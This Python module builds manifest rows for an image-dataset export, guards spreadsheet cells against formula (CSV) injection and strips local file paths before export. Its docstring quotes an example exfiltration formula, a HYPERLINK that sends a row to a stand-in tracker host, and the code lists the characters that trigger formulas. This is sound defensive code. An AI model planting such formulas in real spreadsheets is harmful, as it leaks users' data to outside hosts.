"""The manifest row: one exported image as the export and its datasheet both see it.

Its text cells come from search results and files, and the manifest is opened in spreadsheets,
which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://tracker/?"&A1, "pug")`` sends the row away when clicked). Such a cell is
written with a leading ``'``, as OWASP recommends against CSV injection; numbers stay numbers.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, replace

from db.provenance import PROVENANCE_FIELDS, Provenance

# The provenance fields that hold addresses, and the only kind of address a manifest carries.
URL_FIELDS: tuple[str, ...] = ("url", "landing_url", "license_url")
PORTABLE_SCHEMES: tuple[str, ...] = ("http://", "https://")

# The manifest's columns, in order: the file, then where it came from, then its record.
MANIFEST_FIELDS: tuple[str, ...] = (
    "breed",
    "synset",
    "file",
    "sha256",
    "width",
    "height",
    *PROVENANCE_FIELDS,
    "image_id",
    "status",
)

# What makes a spreadsheet read a cell as a formula (tab and carriage return too: some
# spreadsheets drop them and read what follows), and the full-width forms some accept as well.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA_GUARD = "'"
# A text cell that is a plain number (``-1``, ``+2.5``, ``1e-3``) is no formula: kept as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def spreadsheet_safe(value: str | int | None) -> str | int | None:
    """``value`` as a spreadsheet shows it and never runs it: a text that starts like a formula
    gets a leading ``'``; numbers, plain-number texts and ``None`` are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return FORMULA_GUARD + value


@dataclass(frozen=True, slots=True)
class ManifestRow:
    """One exported image; ``record()`` gives its flat manifest columns."""

    breed: str
    synset: str | None
    file: str  # relative to the export root, with "/" separators
    sha256: str
    width: int
    height: int
    provenance: Provenance
    image_id: int
    status: str

    def record(self) -> dict[str, str | int | None]:
        """The row as written to the manifest: one value per column, in ``MANIFEST_FIELDS``
        order (the provenance's fields flattened between the file's and the record's), every text
        cell made ``spreadsheet_safe``."""
        return {name: spreadsheet_safe(value) for name, value in self._values().items()}

    def _values(self) -> dict[str, str | int | None]:
        return {
            "breed": self.breed,
            "synset": self.synset,
            "file": self.file,
            "sha256": self.sha256,
            "width": self.width,
            "height": self.height,
            **self.provenance.columns(),
            "image_id": self.image_id,
            "status": self.status,
        }


def portable(provenance: Provenance) -> Provenance:
    """The record as it may leave this machine: an address that is not http(s) is dropped.

    Imports made before they stopped recording one stored the file's ``file://`` URL; such a
    URL, or a bare local path, names a folder on the exporting machine (often with the user's
    name in it) and is of no use to anyone who receives the set.
    """
    local = {
        name: None
        for name in URL_FIELDS
        if (value := getattr(provenance, name))
        and not value.strip().lower().startswith(PORTABLE_SCHEMES)
    }
    return replace(provenance, **local) if local else provenance
